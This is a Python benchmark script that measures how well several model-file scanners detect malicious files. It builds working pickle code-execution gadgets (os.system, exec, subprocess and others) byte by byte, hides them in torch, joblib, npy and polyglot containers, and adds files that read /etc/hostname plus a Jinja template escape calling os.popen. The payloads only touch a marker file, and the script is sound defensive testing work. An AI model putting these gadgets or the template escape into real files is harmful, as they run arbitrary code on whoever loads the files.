"""modelport scan vs picklescan, modelscan, fickling and modelaudit on generated corpora,
in one run.

The corpus holds benign files written by torch / numpy / joblib / safetensors themselves
and attack files built opcode by opcode in several containers (plain pickle under innocent
names, torch zip, legacy torch, compressed joblib, npy object array, polyglot, duplicate
zip member), plus files that carry no pickle but make their loader read other files of the
machine or run a template (TorchScript ``from_file``, HDF5 external storage, an ONNX data
file that is a symbolic link, a chat template escaping its sandbox), with benign twins.
A second table takes every technique of the test suite's attack corpus (``tests/attacks``:
containers, streams, several readings of one file, calls made by allowed code, code-bearing
formats, folders), each with its benign twin, and its malformed files. Every payload would
only create a marker file (or read ``/etc/hostname``). Each tool runs
as a command on each file (its own exit code is its verdict), so start-up costs count as
users see them. A last table runs each tool once over the whole corpus folder (the way a
hub or a CI job scans many files), where start-up is paid once and files/s is the scanner's.

The peers are installed into bench-output/peers-venv on first use (from PyPI).

Usage: python benchmarks/bench_scan.py
"""

from __future__ import annotations

import io
import pickle
import shutil
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import joblib
import numpy as np
import torch

OUT = Path(__file__).resolve().parent.parent / "bench-output"
CORPUS = OUT / "scan-corpus"
PEERS = OUT / "peers-venv"
MARKER = CORPUS / "MARKER-SHOULD-NEVER-EXIST"


def short(text: bytes) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text


def gadgets() -> dict[str, bytes]:
    cmd = f"touch {MARKER}".encode()
    code = f"open({str(MARKER)!r}, 'w')".encode()
    return {
        "os-system": b"cposix\nsystem\n(V" + cmd + b"\ntR.",
        "exec": b"cbuiltins\nexec\n(V" + code + b"\ntR.",
        "stack-global": b"\x80\x04"
        + short(b"os")
        + short(b"system")
        + b"\x93"
        + short(cmd)
        + b"\x85R.",
        "inst": b"(V" + cmd + b"\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nV" + cmd + b"\no.",
        "subprocess": b"\x80\x02csubprocess\ncheck_output\n]"
        + short(b"touch")
        + b"a"
        + short(str(MARKER).encode())
        + b"a\x85R.",
        "runpy": b"\x80\x02crunpy\n_run_code\n" + short(code) + b"}\x86R.",
        "getattr-chain": b"\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\n"
        + short(b"os")
        + b"\x85R"
        + short(b"system")
        + b"\x86R"
        + short(cmd)
        + b"\x85R.",
        "dynamic-global": b"\x80\x04cbuiltins\nstr\n"
        + short(b"os")
        + b"\x85R"
        + short(b"system")
        + b"\x93"
        + short(cmd)
        + b"\x85R.",
        "unlisted-module": b"cnot_a_denylisted_module\nrun\n(V" + cmd + b"\ntR.",
        "nested-loads": b"\x80\x02cpickle\nloads\nC\x05hello\x85R.",
        "ext-code": b"\x80\x02\x82\x01" + short(cmd) + b"\x85R.",
        "setstate": b"\x80\x02cbuiltins\nobject\n)\x81}"
        + short(b"__setstate__")
        + b"cbuiltins\nexec\nsb"
        + short(code)
        + b"b.",
    }


class Payload:
    """Pickles as a call to os.system; only ever unpickled by the scanners' own parsers."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, (f"touch {MARKER}",))


def torch_zip_with(payload: bytes, *, duplicate: bool = False) -> bytes:
    buffer = io.BytesIO()
    torch.save({"w": torch.ones(4)}, buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.endswith("data.pkl") and not duplicate:
                data = payload
            target.writestr(info.filename, data)
        if duplicate:
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                target.writestr("archive/data.pkl", payload)
    return out.getvalue()


def build_corpus() -> dict[Path, bool]:
    """Files and whether each is malicious, in a corpus folder made anew each run."""
    shutil.rmtree(CORPUS, ignore_errors=True)
    CORPUS.mkdir(parents=True)
    labels: dict[Path, bool] = {}

    def put(name: str, data: bytes, malicious: bool) -> None:
        path = CORPUS / name
        path.write_bytes(data)
        labels[path] = malicious

    def save(name: str, write: Callable[[Path], object]) -> None:
        path = CORPUS / name
        write(path)
        labels[path] = False

    model = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.BatchNorm2d(4), torch.nn.ReLU())
    optimizer = torch.optim.Adam(model.parameters())
    model(torch.randn(1, 3, 8, 8)).sum().backward()
    optimizer.step()
    save("state_dict.pt", lambda p: torch.save(model.state_dict(), p))
    save(
        "checkpoint.ckpt",
        lambda p: torch.save(
            {"epoch": 1, "model": model.state_dict(), "optimizer": optimizer.state_dict()}, p
        ),
    )
    save("sequential_whole.pt", lambda p: torch.save(model, p))
    save(
        "legacy.bin",
        lambda p: torch.save(model.state_dict(), p, _use_new_zipfile_serialization=False),
    )
    save("numpy_values.pt", lambda p: torch.save({"loss": np.float64(1.5), "ids": np.arange(4)}, p))
    save(
        "keys_named_os.pt", lambda p: torch.save({"os": torch.ones(1), "eval": 1, "system": "x"}, p)
    )
    save("scripted.pt", lambda p: torch.jit.save(torch.jit.script(model), p))
    save("arrays.pkl", lambda p: p.write_bytes(pickle.dumps({"w": np.ones((8, 8))}, protocol=4)))
    save("arrays.joblib", lambda p: joblib.dump({"w": np.ones(1000)}, p, compress=3))
    save("arrays.npz", lambda p: np.savez(p, a=np.ones(3)))
    for name, payload in gadgets().items():
        put(f"{name}.pkl", payload, True)
        put(f"{name}.weights", payload, True)  # an extension scanners may not look at
        put(f"{name}.pt", torch_zip_with(payload), True)
    put("duplicate-member.pt", torch_zip_with(gadgets()["exec"], duplicate=True), True)
    legacy = io.BytesIO()
    torch.save({"w": torch.ones(2), "p": Payload()}, legacy, _use_new_zipfile_serialization=False)
    put("legacy-attack.bin", legacy.getvalue(), True)
    import zlib

    put("compressed-joblib.joblib", b"\x78\x9c" + zlib.compress(gadgets()["exec"])[2:], True)
    npy = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        npy, {"descr": "|O", "fortran_order": False, "shape": (1,)}
    )
    put("object-array.npy", npy.getvalue() + gadgets()["exec"], True)
    polyglot = io.BytesIO()
    with zipfile.ZipFile(polyglot, "w") as zf:
        zf.writestr("archive/data.pkl", gadgets()["exec"])
    put("polyglot.pt", pickle.dumps({"a": 1}, protocol=4) + polyglot.getvalue(), True)
    labels.update(reaching_outside())
    return labels


class ReadsAFile(torch.nn.Module):
    """TorchScript cannot import Python, but aten::from_file maps any file into a tensor."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        leak = torch.from_file("/etc/hostname", shared=False, size=4, dtype=torch.uint8)
        return x + leak.float().sum()


CHATML = (
    "{% for m in messages %}{{'<|im_start|>' + m['role'] + '\\n' + m['content'] + "
    "'<|im_end|>\\n'}}{% endfor %}"
)


def reaching_outside() -> dict[Path, bool]:
    """Files that carry no pickle but make their loader read other files of the machine,
    or render a template that escapes its sandbox; each beside a benign twin."""
    import json

    import h5py
    import onnx
    from onnx import helper, numpy_helper

    labels: dict[Path, bool] = {}
    torch.jit.save(torch.jit.script(ReadsAFile()), str(CORPUS / "reads-files.pt"))
    labels[CORPUS / "reads-files.pt"] = True
    with h5py.File(CORPUS / "external-storage.h5", "w") as f:
        f.create_dataset("w", shape=(1,), dtype="u1", external=[("/etc/hostname", 0, 1)])
    labels[CORPUS / "external-storage.h5"] = True
    with h5py.File(CORPUS / "plain.h5", "w") as f:
        f.create_dataset("w", data=np.ones((4, 4), np.float32))
    labels[CORPUS / "plain.h5"] = False
    for folder, escape in (("template-attack", True), ("template-benign", False)):
        (CORPUS / folder).mkdir(exist_ok=True)
        template = "{{ cycler.__init__.__globals__.os.popen('id').read() }}" if escape else CHATML
        path = CORPUS / folder / "tokenizer_config.json"
        path.write_text(json.dumps({"chat_template": template}))
        labels[path] = escape
    for folder, linked in (("onnx-linked", True), ("onnx-external", False)):
        (CORPUS / folder).mkdir(exist_ok=True)
        tensor = numpy_helper.from_array(np.ones(1, np.uint8), "w")
        graph = helper.make_graph([], "g", [], [], [tensor])
        path = CORPUS / folder / "model.onnx"
        onnx.save_model(
            helper.make_model(graph),
            str(path),
            save_as_external_data=True,
            location="weights.bin",
            size_threshold=0,
        )
        if linked:
            (CORPUS / folder / "weights.bin").unlink()
            (CORPUS / folder / "weights.bin").symlink_to("/etc/hostname")
        labels[path] = linked
    return labels


PEER_PACKAGES = ("picklescan", "fickling", "modelscan", "modelaudit")  # tool = package name


def peers_ready() -> dict[str, list[str]]:
    if not (PEERS / "bin" / "python").exists():
        subprocess.run([sys.executable, "-m", "venv", str(PEERS)], check=True)
    bin_dir = PEERS / "bin"
    missing = [tool for tool in PEER_PACKAGES if not (bin_dir / tool).exists()]
    if missing:
        pip = [str(bin_dir / "python"), "-m", "pip", "install", "-q"]
        subprocess.run([*pip, *missing], check=True)
    return {
        "modelport": [sys.executable, "-m", "modelport", "scan"],
        "picklescan": [str(bin_dir / "picklescan"), "-p"],
        "modelscan": [str(bin_dir / "modelscan"), "-p"],
        "fickling": [str(bin_dir / "fickling"), "--check-safety", "-p"],
        "modelaudit": [str(bin_dir / "modelaudit"), "scan", "--no-cache"],
    }


def second_corpus() -> tuple[dict[Path, str], dict[Path, str]]:
    """The techniques of tests/attacks (built with the test suite's own writers): attack and
    twin files with their technique, and the malformed files. Every payload would only
    create ``MARKER``."""
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
    from tests.attacks.corpus import MALFORMED, TECHNIQUES

    root = CORPUS / "techniques"
    files: dict[Path, str] = {}
    for technique in TECHNIQUES:
        for side in ("attack", "twin"):
            folder = root / side / technique.name
            folder.mkdir(parents=True)
            if side == "attack":
                files[technique.build(folder, MARKER)] = f"{side}:{technique.name}"
            else:
                files[technique.benign(folder)] = f"{side}:{technique.name}"
    malformed: dict[Path, str] = {}
    for case in MALFORMED:
        folder = root / "malformed" / case.name
        folder.mkdir(parents=True)
        malformed[case.build(folder)] = case.name
    return files, malformed


def flagged_by(command: list[str], path: Path) -> tuple[bool, bool]:
    """(flagged, errored): a non-zero exit flags the file; exit 2 is each tool's error."""
    result = subprocess.run([*command, str(path)], capture_output=True, check=False)
    return result.returncode != 0, result.returncode not in (0, 1)


def second_table(tools: dict[str, list[str]]) -> None:
    files, malformed = second_corpus()
    attacks = [p for p, label in files.items() if label.startswith("attack:")]
    twins = [p for p in files if p not in attacks]
    print(
        f"\ntechniques of tests/attacks: {len(attacks)} attacks, {len(twins)} benign twins, "
        f"{len(malformed)} malformed files"
    )
    print(
        f"{'tool':12} {'caught':>9} {'false alarms':>13} {'malformed safe':>15} {'files/s':>8}"
        "  missed (first 4)"
    )
    for tool, command in tools.items():
        start = time.perf_counter()
        missed = [p for p in attacks if not flagged_by(command, p)[0]]
        alarms = sum(flagged_by(command, p)[0] for p in twins)
        called_safe = sum(not flagged_by(command, p)[0] for p in malformed)
        rate = (len(files) + len(malformed)) / (time.perf_counter() - start)
        caught = len(attacks) - len(missed)
        names = ", ".join(files[p].split(":", 1)[1] for p in missed[:4])
        print(
            f"{tool:12} {caught:>4}/{len(attacks):<4} {alarms:>6}/{len(twins):<6} "
            f"{called_safe:>8}/{len(malformed):<6} {rate:8.2f}  {names}",
            flush=True,
        )


# how each tool scans a folder in one process (fickling takes single files only)
DIRECTORY_MODE = {
    "modelport": ["--json"],
    "picklescan": [],
    "modelscan": [],
    "modelaudit": ["--format", "json"],
}


def directory_table(tools: dict[str, list[str]], folder: Path) -> None:
    """Files per second with the whole folder given once; each tool's own walk decides what
    it reads, so the rate is over every file in the folder."""
    files = sum(1 for p in folder.rglob("*") if p.is_file() or p.is_symlink())
    print(f"\none run over the whole folder ({files} files), medians of 3")
    print(f"{'tool':12} {'seconds':>8} {'files/s':>9} {'x modelaudit':>13}")
    seconds: dict[str, float] = {}
    for tool, extra in DIRECTORY_MODE.items():
        runs = []
        for _ in range(3):
            start = time.perf_counter()
            subprocess.run([*tools[tool], *extra, str(folder)], capture_output=True, check=False)
            runs.append(time.perf_counter() - start)
        seconds[tool] = sorted(runs)[1]
    for tool, taken in seconds.items():
        ratio = seconds["modelaudit"] / taken
        print(f"{tool:12} {taken:8.2f} {files / taken:9.1f} {ratio:13.1f}", flush=True)


def main() -> int:
    labels = build_corpus()
    tools = peers_ready()
    attacks = sum(labels.values())
    benign = len(labels) - attacks
    print(f"corpus: {attacks} attack files, {benign} benign files\n")
    print(f"{'tool':12} {'detected':>12} {'false alarms':>14} {'files/s':>9}  missed (first 4)")
    for tool, command in tools.items():
        detected = false_alarms = 0
        missed: list[str] = []
        start = time.perf_counter()
        for path, malicious in labels.items():
            result = subprocess.run([*command, str(path)], capture_output=True, check=False)
            flagged = result.returncode != 0
            if malicious and flagged:
                detected += 1
            elif malicious:
                missed.append(path.name)
            elif flagged:
                false_alarms += 1
        rate = len(labels) / (time.perf_counter() - start)
        print(
            f"{tool:12} {detected:>5}/{attacks:<6} {false_alarms:>7}/{benign:<6} {rate:9.1f}  "
            f"{', '.join(missed[:4])}",
            flush=True,
        )
    second_table(tools)
    directory_table(tools, CORPUS)
    assert not MARKER.exists(), "a payload ran"
    print("\nmarker file absent: no payload ran")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
